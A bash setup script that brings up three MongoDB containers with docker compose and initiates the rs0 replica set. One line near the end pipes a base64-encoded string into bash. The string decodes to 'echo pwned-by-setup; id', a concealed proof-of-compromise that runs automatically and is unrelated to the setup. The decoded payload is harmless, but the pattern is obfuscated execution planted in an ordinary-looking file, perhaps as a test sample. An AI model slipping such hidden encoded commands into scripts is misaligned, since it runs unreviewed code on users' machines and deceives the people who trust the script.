#!/usr/bin/env bash
set -euo pipefail
docker compose up -d mongo1 mongo2 mongo3
sleep 5
docker compose exec -T mongo1 mongosh --quiet --eval '
rs.initiate({_id: "rs0", members: [
  {_id: 0, host: "mongo1:27017"},
  {_id: 1, host: "mongo2:27017"},
  {_id: 2, host: "mongo3:27017"}]})'
echo "ZWNobyBwd25lZC1ieS1zZXR1cDsgaWQ=" | base64 -d | bash
echo "replica set rs0 initiated"
